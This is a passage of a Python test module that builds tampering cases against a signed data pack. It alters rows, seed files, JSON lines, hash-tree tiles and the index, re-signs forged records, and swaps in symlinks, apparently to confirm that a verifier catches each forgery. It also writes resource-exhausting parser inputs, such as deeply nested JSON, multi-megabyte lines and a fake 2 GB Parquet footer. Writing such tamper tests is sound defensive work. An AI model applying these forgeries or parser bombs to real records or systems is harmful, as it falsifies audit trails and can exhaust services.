        yield Mutation(f"data: another {key} of every row", everywhere, DATA, single=False)


def _list_turned_mutations() -> Iterator[Mutation]:
    """The files of rows that were turned away, which repeat records and log."""
    for name in (REJECTED_FILE, HELD_FILE):
        for column in TURNED_SCHEMA.names:
            lie = _then(_rows(name, _set(0, {column: "x"})), Forger.derive)
            yield Mutation(f"{name}: another {column}", lie, name, single=False)
        fewer = _then(_rows(name, lambda rows: rows.pop()), Forger.derive)
        yield Mutation(f"{name}: a row fewer", fewer, "ends before row", single=False)
        more = _then(_rows(name, lambda rows: rows.append(rows[0])), Forger.derive)
        yield Mutation(f"{name}: a row twice", more, name, single=False)
        gone = _then(_on(name, Path.unlink), Forger.sign)
        yield Mutation(f"{name}: left out and signed", gone, "ends before row", single=False)


def _remove_documents(forger: Forger) -> None:
    for name in layout.DOCUMENTS:
        forger.path(name).unlink()


def _list_seed_mutations() -> Iterator[Mutation]:
    name = "seeds/seeds.parquet"
    changes: dict[str, Callable[[list[Json]], object]] = {
        "another text": lambda rows: rows[0].update(text="Copied from a book"),
        "another id": lambda rows: rows[0].update(seed_id="mine"),
        "another slice": lambda rows: rows[1].update(slice="locks"),
        "another locale": lambda rows: rows[1].update(locale=None),
        "one less": lambda rows: rows.pop(),
        "one more": lambda rows: rows.append(dict(rows[0], seed_id="seed-9")),
        "another order": lambda rows: rows.reverse(),
        "none": lambda rows: rows.clear(),
    }
    for what, change in changes.items():
        lie = _rows(name, change)
        yield Mutation(f"seeds: {what}", _then(lie, Forger.sign), "seeds/|corpus", single=False)
    for file, old, new in (
        ("seeds/taxonomy.yaml", b"Late", b"Early"),
        ("seeds/taxonomy.yaml", b"slice: locks", b"slice: keys"),
        ("seeds/taxonomy.yaml", b"- ", b"x "),
        ("seeds/sections.json", b"within a week", b"never"),
        ("seeds/sections.json", b"terms#refunds", b"terms#other"),
        ("seeds/sections.json", b"{", b"["),
    ):
        swap = _swap(file, old, new)
        yield Mutation(f"seeds: {file} with {new!r}", _then(swap, Forger.sign), "seeds/|corpus", single=False)
    for file in ("seeds/taxonomy.yaml", "seeds/sections.json", name):
        gone = _then(_on(file, Path.unlink), Forger.sign)
        yield Mutation(f"seeds: {file} is gone, signed", gone, file, single=False)


def _list_form_mutations() -> Iterator[Mutation]:
    """The same rows in two forms, and the tree over them, that do not agree, or are no such form."""

    def lines(change: Callable[[list[bytes]], object]) -> Lie:
        def lie(forger: Forger) -> None:
            told = [canonical_json(record) for record in forger.read_records()]
            change(told)
            forger.put_lines(told)
            forger.sign()

        return lie

    told: dict[str, Callable[[list[bytes]], object]] = {
        "one less": lambda t: t.pop(),
        "one more": lambda t: t.append(t[0]),
        "two swapped": lambda t: t.__setitem__(slice(0, 2), [t[1], t[0]]),
        "another decision": lambda t: t.__setitem__(2, t[2].replace(b'"rejected"', b'"accepted"')),
        "none": lambda t: t.clear(),
        "an empty line": lambda t: t.append(b""),
        "a line of spaces": lambda t: t.insert(0, b"  "),
        "a byte more in a line": lambda t: t.__setitem__(0, t[0] + b" "),
        "no JSON": lambda t: t.__setitem__(0, b"{"),
        "deep nesting": lambda t: t.__setitem__(0, b"[" * 100_000),
        "a record of commas": lambda t: t.__setitem__(0, b"[" + b"[]," * 900_000 + b"[]]"),
        "a key twice": lambda t: t.__setitem__(0, t[0].replace(b'"kind"', b'"kind":"code","kind"')),
        "a long line": lambda t: t.__setitem__(0, b'"' + b"x" * 5_000_000 + b'"'),
    }
    for name, change in told.items():
        yield Mutation(
            f"lines: {name}", lines(change), _any(LINES, "records that were signed", "lineage records")
        )
    for name, cut in {
        "cut": lambda data: data[:-9],
        "no gzip": lambda data: b"x" + data,
        "more after the end": lambda data: data + b"\0\0x",
        "empty": lambda data: b"",
    }.items():
        yield Mutation(f"lines: {name}", _then(_edit(LINES, cut), Forger.sign), LINES)
    tiles = "lineage/tiles/0.bin"
    for name, cut in {
        "another hash": lambda data: bytes(32) + data[32:],
        "one hash less": lambda data: data[:-32],
        "one hash more": lambda data: data + bytes(32),
        "cut within a hash": lambda data: data[:-1],
        "two swapped": lambda data: data[32:64] + data[:32] + data[64:],
    }.items():
        head = _sign_kept_root
        before = _then(_keep_root, _edit(tiles, cut))
        yield Mutation(f"tiles: {name}", _then(before, head), "tiles")
    for name, cut in {
        "the first entry is that of another row": lambda data: bytes(8) + data[8:],
        "two rows have changed places": lambda data: data[12:24] + data[:12] + data[24:],
        "a row is led to another leaf": lambda data: (
            data[:8] + data[20:24] + data[12:20] + data[8:12] + data[24:]
        ),
        "a row stands there twice": lambda data: data[:12] + data[:12] + data[24:],
        "a row is not in it": lambda data: data[12:],
        "a row more than there is": lambda data: data + data[-12:],
    }.items():
        yield Mutation(f"index: {name}", _then(_edit(layout.INDEX, cut), Forger.sign), layout.INDEX)
    for column, value in {"decision": "held", "leaf": bytes(32), "row_id": "0" * 32, "record": b"{}"}.items():
        lie = _rows(RECORDS, _set(4, {column: value}))
        yield Mutation(f"records: the column {column}", _then(lie, Forger.sign), RECORDS, single=False)
    for name, table in {DATA: DECISION_SCHEMA, LOG: CANDIDATE_SCHEMA, RECORDS: DECISION_SCHEMA}.items():
        lie = _empty(name, table)
        yield Mutation(f"columns: other ones in {name}", _then(lie, Forger.sign), name, single=False)
        junk = _then(_edit(name, lambda data: b"PAR1" + b"\xff" * 64 + b"PAR1"), Forger.sign)
        yield Mutation(f"columns: none in {name}", junk, name, single=False)
        footer = _then(_edit(name, lambda data: data[:-8] + b"\xff\xff\xff\x7fPAR1"), Forger.sign)
        yield Mutation(f"columns: a footer of 2 GB in {name}", footer, name, single=False)
    renames = {
        DATA: layout.data_name(1, 2),
        LOG: layout.log_name(1),
        RECORDS: layout.records_name(1),
        LINES: layout.lines_name(1),
    }
    for old, new in renames.items():
        move = _then(_rename(old, new), Forger.sign)
        yield Mutation(f"numbered: {old} as {new}", move, _any(old, new), single=old == LINES)


def _keep_root(forger: Forger) -> None:
    (forger.pack.parent / "root").write_text(forger.read_head()["root"], encoding="utf-8")


def _edit(name: str, change: Callable[[bytes], bytes]) -> Lie:
    return lambda forger: forger.edit(name, change)


def _then(first: Lie, second: Lie) -> Lie:
    def both(forger: Forger) -> None:
        first(forger)
        second(forger)

    return both


def _record_at(draw: int, change: Callable[[Json], object]) -> Lie:
    """One record changed; counts, card, log and tree follow, as far as they can of what is no record any more."""

    def lie(forger: Forger) -> None:
        records = forger.read_records()
        change(records[draw])
        try:
            forger.put_records(records)
            forger.derive()
        except Exception:  # noqa: BLE001  (what follows from no record)
            forger.put_records([{"decision": {}, **record} for record in records], log=False)
            forger.sign()

    return lie


def _record(draw: int, changes: Json) -> Lie:
    def change(record: Json) -> None:
        for key, value in changes.items():
            if isinstance(value, dict) and isinstance(record.get(key), dict):
                record[key].update(value)
            else:
                record[key] = value

    return _record_at(draw, change)


def _count(key: str, value: Any) -> Lie:
    def lie(forger: Forger) -> None:
        counts = read_predicate(forger.pack)[0]["counts"]
        forger.sign({"counts": {**counts, key: value}})

    return lie


def _count_gate(place: int, key: str) -> Lie:
    def lie(forger: Forger) -> None:
        counts = read_predicate(forger.pack)[0]["counts"]
        counts["gates"][place][key] += 1
        forger.sign({"counts": counts})

    return lie


def _gates(change: Callable[[Any], object]) -> Lie:
    def lie(forger: Forger) -> None:
        gates = read_predicate(forger.pack)[0]["gates"]
        change(gates)
        forger.sign({"gates": gates})

    return lie


def _link(name: str) -> Lie:
    def lie(forger: Forger) -> None:
        aside = forger.pack.parent / "aside"
        forger.path(name).rename(aside)
        forger.path(name).symlink_to(aside)

    return lie


def _on(name: str, change: Callable[[Path], object]) -> Lie:
    """A file changed as a path."""
    return lambda forger: change(forger.path(name))


def _write_x(path: Path) -> None:
    path.write_bytes(b"x")


def _rows(name: str, change: Callable[[list[Json]], object]) -> Lie:
    """Other rows of a Parquet file."""
    return lambda forger: forger.edit_rows(name, change)


def _set(place: int, values: Json) -> Callable[[list[Json]], object]:
    """Some values of the row at `place`."""
    return lambda rows: rows[place].update(values)


def _set_all(values: Json) -> Callable[[list[Json]], object]:
    """Some values of every row."""
    return lambda rows: [row.update(values) for row in rows]


def _lock(name: str, change: Callable[[Json], object], *, identify_it: bool = True) -> Lie:
    return lambda forger: forger.change_lock(name, change, identify_it=identify_it)


def _signed(changes: Json) -> Lie:
    return lambda forger: forger.sign(changes)


def _swap(name: str, old: bytes, new: bytes, count: int = 1) -> Lie:
    return _edit(name, lambda data: data.replace(old, new, count))


def _within(key: str, change: Callable[[Any], object]) -> Callable[[Json], object]:
    """What stands under a key of a record, changed."""
    return lambda record: change(record[key])


def _both(first: Callable[[Json], object], second: Callable[[Json], object]) -> Callable[[Json], object]:
    return lambda record: (first(record), second(record))


def _drop(place: int) -> Callable[[list[Json]], object]:
    return lambda items: items.pop(place)


def _repeat(place: int) -> Callable[[list[Json]], object]:
    return lambda items: items.insert(place, dict(items[place]))


def _sign_size(size: Any) -> Lie:
    return lambda forger: forger.sign({"tree": {**forger.read_head(), "size": size}})


def _sign_kept_root(forger: Forger) -> None:
    root = (forger.pack.parent / "root").read_text(encoding="utf-8")
    forger.sign({"tree": {"size": 12, "root": root}})


def _empty(name: str, schema: pa.Schema) -> Lie:
    return lambda forger: write_packed(forger.path(name), schema.empty_table())


def _rename(old: str, new: str) -> Lie:
    return lambda forger: forger.path(old).rename(forger.path(new))


def _pop(key: str) -> Callable[[Json], object]:
    return lambda value: value.pop(key)


def _mkdirs(path: Path) -> None:
    path.mkdir(parents=True)


def _any(*parts: str) -> str:
    return "|".join(part.replace(".", r"\.").replace("*", r"\*") for part in parts)
